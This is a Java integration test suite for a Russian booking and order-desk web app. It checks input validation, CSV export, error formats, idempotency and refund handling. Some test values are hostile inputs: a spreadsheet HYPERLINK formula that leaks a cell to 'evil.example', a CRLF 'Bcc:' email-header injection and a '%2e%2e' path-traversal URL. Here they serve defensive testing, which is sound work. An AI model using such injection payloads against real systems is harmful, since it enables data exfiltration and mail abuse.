package com.orderdesk.app;

import com.fasterxml.jackson.databind.JsonNode;
import com.orderdesk.app.support.OrderBodies;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayInputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZonedDateTime;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 26, what an attacker tried: text that breaks staff tools, parameters that answered 500, bookings in the past,
 * staff names in guests' texts, keys reused after their retention, refunds in the gateway's dashboard, money kept on a
 * cancellation — and every error, the firewall's included, in problem+json.
 */
class TrustHttpTest extends HttpTestBase {

    private String body(String visitorName) {
        return OrderBodies.order(today().plusDays(3), 2, "FULL", null)
                .replace("\"name\":\"Светлана Орлова\",\"phone\":\"+7 912 555-12-34\"", "\"name\":" + visitorName + ",\"phone\":\"+7 912 555-12-34\"");
    }

    private void refusedOn(Api.Response answer, String field) {
        assertThat(answer.status()).as(answer.toString()).isEqualTo(400);
        assertThat(answer.code()).isEqualTo("validation-failed");
        assertThat(answer.text("/field")).isEqualTo(field);
        assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
    }

    @Nested
    class TextThatCannotHurt {
        @ParameterizedTest
        @ValueSource(strings = {"\"Иван\\ud800\"", "\"\\udc00Иван\"", "\"Иван\\uffff\"", "\"Иван\\r\\nBcc: x@evil.ru\"", "\"Иван\\tПетров\"",
                "\"\\u00a0\\u00a0\"", "\"\\u200b\"", "\"\\ufeff\\u2060\""})
        void aBrokenBlankOrMultiLineNameIsRefusedOnItsFieldAndNothingIsPlaced(String name) {
            long before = jdbc.queryForObject("select count(*) from order_summary", Long.class);
            refusedOn(manager.post("/api/orders", body(name)), "visitor.name");
            assertThat(jdbc.queryForObject("select count(*) from order_summary", Long.class)).isEqualTo(before);
        }

        @Test
        void aMessageWithABrokenCharacterIsRefusedALineBreakIsNot() {
            String order = placeDeskOrder(2);
            refusedOn(manager.post("/api/orders/" + order + "/messages", "{\"visibility\":\"PUBLIC\",\"text\":\"Ждём \\ud83d вас\"}"), "text");
            assertThat(manager.post("/api/orders/" + order + "/messages", "{\"visibility\":\"PUBLIC\",\"text\":\"Ждём\\nвас\"}").status())
                    .isEqualTo(201);
        }

        @Test
        void aKeyTwiceInOneObjectIsRefusedNotReadAsItsLastValue() {
            String order = placeDeskOrder(4);
            Api.Response twice = manager.post("/api/orders/" + order + "/payments",
                    "{\"amount\":{\"value\":\"100.00\",\"value\":\"1.00\",\"currency\":\"RUB\"},\"method\":\"CASH\"}");
            refusedOn(twice, "amount.value");
            assertThat(detail(order).json().at("/payments")).isEmpty();
        }

        @Test
        void csvCellsThatASpreadsheetWouldRunAreNeutralisedXlsxKeepsThemAsText() throws Exception {
            String marker = "Формула" + UUID.randomUUID().toString().substring(0, 6);
            String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A3,\"" + marker + "\")";
            assertThat(manager.post("/api/orders", body("\"" + formula.replace("\"", "\\\"") + "\"")).status()).isEqualTo(201);
            assertThat(manager.post("/api/orders", body("\"@SUM(1+1)" + marker + "\"")).status()).isEqualTo(201);
            assertThat(manager.post("/api/orders", body("\"-2+3" + marker + "\"")).status()).isEqualTo(201);

            Api.Download csv = manager.download("/api/orders/export?format=csv&q=" + marker);
            assertThat(csv.status()).isEqualTo(200);
            String text = new String(csv.body(), StandardCharsets.UTF_8);
            assertThat(text).contains("'=HYPERLINK(").contains("'@SUM(1+1)").contains("'-2+3");
            assertThat(text.lines().filter(line -> line.contains(marker))).allSatisfy(line ->
                    assertThat(line).doesNotContain(",=").doesNotContain(",@").doesNotContain(",\"=").doesNotContain(",\"@"));

            Api.Download xlsx = manager.download("/api/orders/export?format=xlsx&q=" + marker);
            try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.body()))) {
                List<Row> rows = workbook.getFirstSheet().read();
                assertThat(rows.stream().map(row -> row.getCellText(5))).contains(formula);
            }
        }

        /** An order stored by an earlier version with a broken character in its visitor's name (H2 keeps it as such). */
        @Test
        void anExportOfStoredBrokenTextIsWholeSortedEitherWay() {
            org.junit.jupiter.api.Assumptions.assumeFalse(TestDatabase.POSTGRES, "PostgreSQL cannot even store an unpaired surrogate");
            String marker = "Сломан" + UUID.randomUUID().toString().substring(0, 6);
            List<String> orders = List.of(placeNamed(marker + " А"), placeNamed(marker + " Б"), placeNamed(marker + " В"));
            jdbc.update("update order_summary set visitor_name = visitor_name || CHAR(55296) where order_id = ?", orders.get(1));
            for (String sort : List.of("createdAt,desc", "createdAt,asc")) {
                Api.Download csv = manager.download("/api/orders/export?format=csv&sort=" + sort + "&q=" + marker);
                assertThat(csv.status()).isEqualTo(200);
                String text = new String(csv.body(), StandardCharsets.UTF_8);
                assertThat(text.lines().filter(line -> line.contains(marker))).as(sort).hasSize(3);
                assertThat(text).contains(marker + " Б\uFFFD").doesNotContain("problem");
                assertThat(manager.download("/api/orders/export?format=xlsx&sort=" + sort + "&q=" + marker).status()).isEqualTo(200);
            }
        }

        private String placeNamed(String name) {
            Api.Response placed = manager.post("/api/orders", body("\"" + name + "\""));
            assertThat(placed.status()).as(placed.toString()).isEqualTo(201);
            return placed.text("/orderId");
        }
    }

    @Nested
    class ParametersThatCannotBeRead {
        @ParameterizedTest
        @ValueSource(strings = {"/api/orders?sort=,", "/api/orders?sort=createdAt,", "/api/orders?status=,", "/api/orders?paymentStatus=PAID,,",
                "/api/orders/export?format=csv&sort=,"})
        void aListParameterItCannotReadIsABadRequestNot500(String path) {
            Api.Response answer = manager.get(path);
            assertThat(answer.status()).as(path + " " + answer).isEqualTo(400);
            assertThat(answer.code()).isEqualTo("validation-failed");
        }

        @Test
        void theGuestListToo() {
            assertThat(guest.get("/api/my/orders?sort=,").status()).isEqualTo(400);
        }

        @ParameterizedTest
        @ValueSource(strings = {"0000-01-01", "0001-01-01", "9999-12-31"})
        void aCashReportOfAYearNoOrderCanHaveIsRefused(String date) {
            refusedOn(manager.get("/api/reports/cash?serviceId=coworking-2nd-floor&date=" + date), "date");
        }
    }

    @Nested
    class EveryErrorIsAProblem {
        @ParameterizedTest
        @ValueSource(strings = {"//api/orders", "/api/orders;x=1", "/api/orders/%2e%2e/orders", "/api//my/orders"})
        void theFirewallsRefusalIsProblemJson(String path) {
            Api.Response answer = manager.get(path);
            assertThat(answer.status()).as(path).isEqualTo(400);
            assertThat(answer.header("Content-Type")).as(path).startsWith("application/problem+json");
            assertThat(answer.code()).isEqualTo("validation-failed");
            // the firewall's own answer says what to fix (the error page's fallback would only say "not accepted")
            assertThat(answer.text("/detail")).as(path).contains("без двойных косых черт");
        }

        @Test
        void aPathNobodyServesIsProblemJson() {
            Api.Response answer = manager.get("/api/no-such-thing");
            assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
            assertThat(answer.code()).isNotBlank();
        }
    }

    @Nested
    class NotInThePast {
        private String period(ZonedDateTime start, int hours) {
            return "{\"start\":\"" + start.toOffsetDateTime() + "\",\"end\":\"" + start.plusHours(hours).toOffsetDateTime() + "\"}";
        }

        private String bodyStarting(ZonedDateTime start) {
            return OrderBodies.order(start.toLocalDate(), 2, "FULL", null)
                    .replaceFirst("\"rentalPeriod\":\\{[^}]*}", "\"rentalPeriod\":" + java.util.regex.Matcher.quoteReplacement(period(start, 2)));
        }

        @Test
        void aGuestCannotBookARentalThatStartedWeeksAgoNorOneThatBeganThisHour() {
            ZonedDateTime now = ZonedDateTime.ofInstant(clock.instant(), PERM);
            refusedOn(guest.post("/api/my/orders", bodyStarting(now.minusWeeks(3).truncatedTo(ChronoUnit.HOURS))), "rentalPeriod");
            refusedOn(guest.post("/api/my/orders", bodyStarting(now.minusMinutes(1))), "rentalPeriod.start");
            String day = now.minusDays(1).toLocalDate().toString();
            refusedOn(guest.get("/api/catalog/services/coworking-2nd-floor/quote?tariffId=standard&date=" + day + "&from=10:00&to=12:00"),
                    "rentalPeriod");
        }

        @Test
        void staffPlaceAWalkInFromTheStartOfTheCurrentHourNotBefore() {
            // in the day, when the coworking is open (the walk-in's hours must be open hours too)
            clock.freezeAt(LocalDate.now(PERM).atTime(12, 20).atZone(PERM).toInstant());
            ZonedDateTime hour = ZonedDateTime.ofInstant(clock.instant(), PERM).truncatedTo(ChronoUnit.HOURS);
            assertThat(manager.post("/api/orders", bodyStarting(hour)).status()).isEqualTo(201);
            refusedOn(manager.post("/api/orders", bodyStarting(hour.minusHours(1))), "rentalPeriod.start");
        }
    }

    @Test
    void guestsNeverSeeStaffNamesInAnyText() {
        String order = placeOnline();
        assertThat(manager.post("/api/orders/" + order + "/payments", payment("100.00", "CASH")).status()).isEqualTo(201);
        assertThat(manager.put("/api/orders/" + order + "/executor", "{\"executorId\":\"service\"}").status()).isEqualTo(200);
        // a line an earlier version wrote with the manager's name in its words
        jdbc.update("insert into timeline_entry (entry_id, order_id, sequence_number, at, kind, author_id, author_name, author_role, text, time_zone)"
                        + " values (?, ?, 999, ?, 'SYSTEM', 'manager', 'Ирина Соколова', 'RENTAL_MANAGER', ?, 'Asia/Yekaterinburg')",
                order + ":999", order, java.sql.Timestamp.from(clock.instant()),
                "Менеджер Ирина Соколова провела оплату 1,00 ₽ (наличные). Исполнитель — Пётр Иванов.");
        String seen = guest.get("/api/my/orders/" + order + "/timeline").body();
        assertThat(seen).contains("Проведена оплата 100,00").contains("Менеджер провела оплату 1,00")
                .doesNotContain("Ирина").doesNotContain("Соколова").doesNotContain("Пётр").doesNotContain("Иванов");
        // staff see who did it
        assertThat(manager.get("/api/orders/" + order + "/timeline").body()).contains("Ирина Соколова").contains("Пётр Иванов");
    }

    @Nested
    class KeysAfterTheirRetention {
        @Test
        void aKeyUsedAgainAfterItsRecordExpiredPlacesANewOrderUnderANewIdNever500() {
            String key = "retained-" + UUID.randomUUID();
            String body = orderBody(3, 2, "FULL");
            Api.Response first = manager.header("Idempotency-Key", key).post("/api/orders", body);
            assertThat(first.status()).isEqualTo(201);
            Api.Response repeat = manager.header("Idempotency-Key", key).post("/api/orders", body);
            assertThat(repeat.header("Idempotent-Replayed")).isEqualTo("true");
            assertThat(repeat.text("/orderId")).isEqualTo(first.text("/orderId"));

            expireRecords();
            Api.Response later = manager.header("Idempotency-Key", key).post("/api/orders", body);
            assertThat(later.status()).as(later.toString()).isEqualTo(201);
            assertThat(later.header("Idempotent-Replayed")).isNull();
            assertThat(later.text("/orderId")).isNotEqualTo(first.text("/orderId"));
        }

        @Test
        void aMessageUnderAKeyUsedAgainAfterItsRecordExpiredIsRecordedNotDroppedInSilence() {
            String order = placeDeskOrder(2);
            String key = "retained-message-" + UUID.randomUUID();
            assertThat(manager.header("Idempotency-Key", key).post("/api/orders/" + order + "/messages",
                    "{\"visibility\":\"INTERNAL\",\"text\":\"Первое\"}").status()).isEqualTo(201);
            expireRecords();
            assertThat(manager.header("Idempotency-Key", key).post("/api/orders/" + order + "/messages",
                    "{\"visibility\":\"INTERNAL\",\"text\":\"Второе\"}").status()).isEqualTo(201);
            assertThat(manager.get("/api/orders/" + order + "/timeline").body()).contains("Первое").contains("Второе");
        }

        /** What the hourly clean-up does to records older than 24 h. */
        private void expireRecords() {
            jdbc.update("delete from idempotency_record where principal = 'manager'");
        }
    }

    @Nested
    class KeyedRequestsThatWaitForTheSaga {
        /**
         * «Оплатить» waits for the saga to create the gateway's payment, which it can only do once the command committed:
         * with an Idempotency-Key (the pages always send one) the request must not hold its command in a transaction
         * while it waits — the saga would never see it (review of issue 26).
         */
        @Test
        void aGuestPaysTheRestWithAKeyAndARepeatGetsTheSamePaymentPage() {
            Api.Response placed = guest.post("/api/my/orders", orderBody(6, 4, "PARTIAL", "troshkov@example.com"));
            assertThat(placed.status()).as(placed.toString()).isEqualTo(201);
            String order = placed.text("/orderId");
            payOnline(order); // the prepayment: no payment request is open after it
            String key = "pay-rest-" + UUID.randomUUID();
            Api.Response pay = guest.header("Idempotency-Key", key).post("/api/my/orders/" + order + "/payment", null);
            assertThat(pay.status()).as(pay.toString()).isEqualTo(201);
            assertThat(pay.text("/amount/value")).isEqualTo("300.00");
            assertThat(pay.text("/confirmationUrl")).contains("/simulator/checkout/");
            Api.Response again = guest.header("Idempotency-Key", key).post("/api/my/orders/" + order + "/payment", null);
            assertThat(again.status()).isEqualTo(201);
            assertThat(again.header("Idempotent-Replayed")).isEqualTo("true");
            assertThat(again.text("/paymentId")).isEqualTo(pay.text("/paymentId"));
        }
    }

    @Nested
    class MoneyThatStaysVisible {
        @Test
        void aDashboardRefundLeavingLessThanTheMinimumIsOwedAndGetsItsRefundReceipt() {
            Api.Response placed = guest.post("/api/my/orders", orderBody(6, 4, "FULL", "troshkov@example.com"));
            String order = placed.text("/orderId");
            String payment = payOnline(order);
            eventually("the payment's receipt", () -> detail(order), r -> "SUCCEEDED".equals(r.text("/receipts/0/status")));
            // 30 ₽ back in the gateway's dashboard: 30 ₽ owed again, less than the 50 ₽ minimum
            assertThat(anonymous.post("/simulator/control/payments/" + payment + "/refund?amount=30.00", null).status()).isEqualTo(200);
            Api.Response after = eventually("the dashboard refund and its receipt", () -> detail(order),
                    r -> r.json().at("/refunds").size() == 1 && r.json().path("receipts").findValuesAsText("kind").contains("REFUND")
                            && r.json().path("receipts").findValuesAsText("status").stream().noneMatch("PENDING"::equals));
            assertThat(after.text("/remainder/value")).isEqualTo("30.00");
            assertThat(after.text("/minimumRemainder/value")).isEqualTo("50.00");
            JsonNode refundReceipt = java.util.stream.StreamSupport.stream(after.json().path("receipts").spliterator(), false)
                    .filter(r -> "REFUND".equals(r.path("kind").asText())).findFirst().orElseThrow();
            assertThat(refundReceipt.path("status").asText()).isEqualTo("SUCCEEDED");
            assertThat(refundReceipt.at("/amount/value").asText()).isEqualTo("30.00");
            assertThat(manager.get("/api/orders/" + order + "/timeline").body()).contains("остаток к оплате снова 30,00");
            // and the rule: only the whole 30 ₽ may be paid
            assertThat(manager.post("/api/orders/" + order + "/payments", payment("20.00", "CASH")).code()).isEqualTo("remainder-below-minimum");
            assertThat(manager.post("/api/orders/" + order + "/payments", payment("30.00", "CASH")).status()).isEqualTo(201);
        }

        @Test
        void moneyKeptOnACancellationGetsItsSettlementReceiptAndReadsPartiallyRefunded() {
            // the meeting room returns half to a guest who cancels in time
            Api.Response placed = guest.post("/api/my/orders", com.orderdesk.app.support.OrderBodies.meetingRoom(
                    com.orderdesk.app.support.OrderBodies.meetingRoomDay(today()), 10, 12, "troshkov@example.com"));
            assertThat(placed.status()).as(placed.toString()).isEqualTo(201);
            String order = placed.text("/orderId");
            // (the meeting room is not the demo manager's: the guest and the auditor watch it)
            anonymous.post("/simulator/control/payments/" + pressPay(order) + "/succeed", null);
            eventually("the payment and its receipt", () -> auditor.get("/api/orders/" + order),
                    r -> "CONFIRMED".equals(r.text("/status")) && "SUCCEEDED".equals(r.text("/receipts/0/status")));
            assertThat(guest.post("/api/my/orders/" + order + "/cancellation", "{}").status()).isEqualTo(200);

            Api.Response settled = eventually("the refund and the settlement of what is kept", () -> auditor.get("/api/orders/" + order),
                    r -> "PARTIALLY_REFUNDED".equals(r.text("/paymentStatus"))
                            && r.json().path("receipts").findValuesAsText("kind").contains("SETTLEMENT")
                            && r.json().path("receipts").findValuesAsText("status").stream().allMatch("SUCCEEDED"::equals));
            assertThat(settled.text("/paymentStatusLabel")).isEqualTo("Частично возвращен");
            JsonNode settlement = java.util.stream.StreamSupport.stream(settled.json().path("receipts").spliterator(), false)
                    .filter(r -> "SETTLEMENT".equals(r.path("kind").asText())).findFirst().orElseThrow();
            assertThat(settlement.at("/amount/value").asText()).isEqualTo("500.00");
            assertThat(guest.get("/api/my/orders/" + order).text("/paymentStatusLabel")).isEqualTo("Частично возвращен");
        }

        @Test
        void aDeskOrderRefundedInPartReadsPartiallyRefunded() {
            String order = placeDeskOrder(4);
            assertThat(manager.post("/api/orders/" + order + "/payments", payment("200.00", "CASH")).status()).isEqualTo(201);
            assertThat(manager.post("/api/orders/" + order + "/cancellation", "{\"reason\":\"Неявка\",\"refundAmount\":"
                    + money("120.00") + "}").status()).isEqualTo(200);
            assertThat(manager.post("/api/orders/" + order + "/refunds", payment("120.00", "CASH")).status()).isEqualTo(201);
            assertThat(detail(order).text("/paymentStatus")).isEqualTo("PARTIALLY_REFUNDED");
            assertThat(detail(order).text("/paymentStatusLabel")).isEqualTo("Частично возвращен");
            assertThat(manager.get("/api/orders?paymentStatus=PARTIALLY_REFUNDED").body()).contains(order);
        }
    }
}
